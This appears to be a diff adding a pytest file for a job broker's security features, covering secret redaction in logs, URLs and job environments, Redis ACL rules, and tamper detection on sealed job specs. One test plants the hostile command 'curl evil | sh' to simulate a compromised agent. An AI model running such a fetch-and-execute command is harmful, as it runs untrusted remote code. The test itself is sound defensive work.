@@ -1,0 +1,137 @@
+"""Secrets kept out of logs, URLs and job environments; ACL rules as data; sealed specs on the
+Redis store (a real Redis: the session's)."""
+
+from __future__ import annotations
+
+import json
+import logging
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import redis
+
+from broker.config import Config
+from broker.model import JobSpec
+from broker.security import acl, seal
+from broker.security.redact import (
+    SecretFilter,
+    install_log_redaction,
+    job_base_env,
+    redact_url,
+    scrub,
+    secret_values,
+)
+from broker.store import RedisStore
+
+PW = "s3cret-Pa55word"
+
+
+@pytest.mark.parametrize("url, shown", [
+    (f"redis://:{PW}@10.0.0.5:6379/0", "redis://:***@10.0.0.5:6379/0"),
+    (f"rediss://agent-n1:{PW}@h:6380/2?ssl_ca_certs=/ca.pem",
+     "rediss://agent-n1:***@h:6380/2?ssl_ca_certs=/ca.pem"),
+    ("redis://127.0.0.1:6379/0", "redis://127.0.0.1:6379/0"),
+    (f"redis://u:{PW}@[::1]:99999/0", "redis://u:***@[::1]:99999/0"),  # a bad port
+])
+def test_redact_url_masks_the_password_only(url: str, shown: str) -> None:
+    assert redact_url(url) == shown
+
+
+def test_scrub_masks_url_passwords_and_known_secrets_in_any_text() -> None:
+    text = f"cannot reach redis://x:{PW}@h/0 (token tok-123456 in header)"
+    assert scrub(text, {"tok-123456"}) == "cannot reach redis://x:***@h/0 (token *** in header)"
+    assert scrub("abc", {"ab"}) == "abc"  # too short to scrub safely
+
+
+def test_secret_values_and_the_job_environment() -> None:
+    env = {"SPILLWAY_REDIS_URL": f"redis://:{PW}@h/0", "AWS_SECRET_ACCESS_KEY": "aws-xyz-1",
+           "HF_TOKEN": "hf-abc-2", "SPILLWAY_METRICS_BASIC_AUTH": "u:pw-3333",
+           "TOKENIZERS_PARALLELISM": "false", "PATH": "/usr/bin", "OTHER": f"x://u:{PW}@h",
+           "CUDA_HOME": "/usr/local/cuda"}
+    assert secret_values(env) == {PW, "aws-xyz-1", "hf-abc-2", "u:pw-3333"}
+    assert job_base_env(env) == {"TOKENIZERS_PARALLELISM": "false", "PATH": "/usr/bin",
+                                 "CUDA_HOME": "/usr/local/cuda"}
+
+
+def test_the_log_filter_scrubs_messages_arguments_and_tracebacks() -> None:
+    logger = logging.getLogger("test.security")
+    handler = logging.StreamHandler()
+    records: list[str] = []
+    handler.emit = lambda record: records.append(  # type: ignore[method-assign]
+        handler.format(record))
+    logger.addHandler(handler)
+    try:
+        install_log_redaction(extra=["planted-token-42"], logger=logger)
+        install_log_redaction(extra=["planted-token-42"], logger=logger)  # (idempotent)
+        assert sum(isinstance(f, SecretFilter) for f in handler.filters) == 1
+        logger.warning("connecting to %s with %s", f"redis://:{PW}@h/0", "planted-token-42")
+        try:
+            raise RuntimeError(f"refused redis://u:{PW}@h/0")
+        except RuntimeError:
+            logger.exception("failed")
+    finally:
+        logger.removeHandler(handler)
+    text = "\n".join(records)
+    assert PW not in text and "planted-token-42" not in text
+    assert "redis://:***@h/0" in text and "RuntimeError" in text
+
+
+def test_acl_rules_for_an_agent_name_only_its_node_and_no_password() -> None:
+    user = acl.user_for("agent", "gpu-7")
+    assert user.name == "spillway-agent-gpu-7"
+    assert "~sw:node:gpu-7" in user.rules and "~node.gpu-7" in user.rules
+    assert not any(r.startswith("~sw:node:") and r != "~sw:node:gpu-7" for r in user.rules)
+    assert "%R~sw:spec:*" in user.rules and not any(r == "~sw:spec:*" for r in user.rules)
+    line = user.command("a-password")
+    assert "a-password" not in line and "#" in line and line.startswith("ACL SETUSER")
+    for bad in ("n*", "a b", "", "[x]"):
+        with pytest.raises(acl.AclError, match="node id"):
+            acl.user_for("agent", bad or "?")
+    with pytest.raises(acl.AclError, match="role 'root'"):
+        acl.user_for("root")
+    with pytest.raises(acl.AclError, match="--node is required"):
+        acl.user_for("agent")
+    assert acl.url_for("rediss://h:6380/1?ssl_cert_reqs=required", "u", "p/w@") == \
+        "rediss://u:p%2Fw%40@h:6380/1?ssl_cert_reqs=required"
+
+
+def test_a_spec_is_sealed_at_submit_and_a_changed_or_unsealed_one_refused(
+        redis_client: redis.Redis, redis_prefix: str) -> None:
+    store = RedisStore(redis_client, Config(), prefix=redis_prefix)
+    spec = JobSpec(command="python train.py --lr 0.1", gpus=2, env={"A": "1"},
+                   time_limit=3600, team="vision", gpu_types=["A100", "H100"])
+    job = store.submit(spec, 100.0)
+    assert store.spec_problems([store.get(job.id)]) == {}
+    raw = redis_client.hget(f"{redis_prefix}job:{job.id}", "doc")
+    doc = json.loads(raw)  # a compromised agent rewrites the record's command
+    doc["spec"]["command"] = "curl evil | sh"
+    redis_client.hset(f"{redis_prefix}job:{job.id}", "doc", json.dumps(doc))
+    tampered = RedisStore(redis_client, Config(), prefix=redis_prefix).get(job.id)
+    assert "SpecTampered" in store.spec_problems([tampered])[job.id]
+    redis_client.delete(seal.seal_key(redis_prefix, job.id))  # (an agent's user cannot)
+    assert "SpecNotSealed" in store.spec_problems([tampered])[job.id]
+
+
+def test_the_boot_script_keeps_a_password_off_the_command_line(tmp_path: Path) -> None:
+    from broker.model.cloud import Market, Offer
+    from providers.userdata import render
+
+    offer = Offer("libcloud", "r", "z", "t", "A100-40GB", 1, 40.0, Market.SPOT, 1.0)
+    url = f"rediss://spillway-cloud-r1:{PW}@broker:6380/0"
+    recorder = (f"{sys.executable} -c 'import json, os, sys; json.dump([os.environ.get("
+                f"\"SPILLWAY_REDIS_URL\"), sys.argv[1:]], open(\"{tmp_path / 'seen'}\", \"w\"))'")
+    script = render(offer, "libcloud", url, "r1", ca_pem="-----BEGIN CERTIFICATE-----\nAB\n"
+                    "-----END CERTIFICATE-----\n", ca_path=str(tmp_path / "etc" / "ca.pem"),
+                    worker_command=recorder)
+    (tmp_path / "boot.sh").write_text(script)
+    done = subprocess.run(["/bin/sh", str(tmp_path / "boot.sh")], capture_output=True,
+                          text=True, timeout=30, env={**os.environ, "SPILLWAY_INSTANCE_ID": "i-1"})
+    assert done.returncode == 0, done.stderr
+    exported, argv = json.loads((tmp_path / "seen").read_text())
+    assert PW not in " ".join(argv) and "--redis-url" not in argv
+    assert exported == (f"{url}?ssl_ca_certs={tmp_path / 'etc' / 'ca.pem'}"
+                        "&ssl_cert_reqs=required")
+    assert (tmp_path / "etc" / "ca.pem").read_text().startswith("-----BEGIN CERTIFICATE")
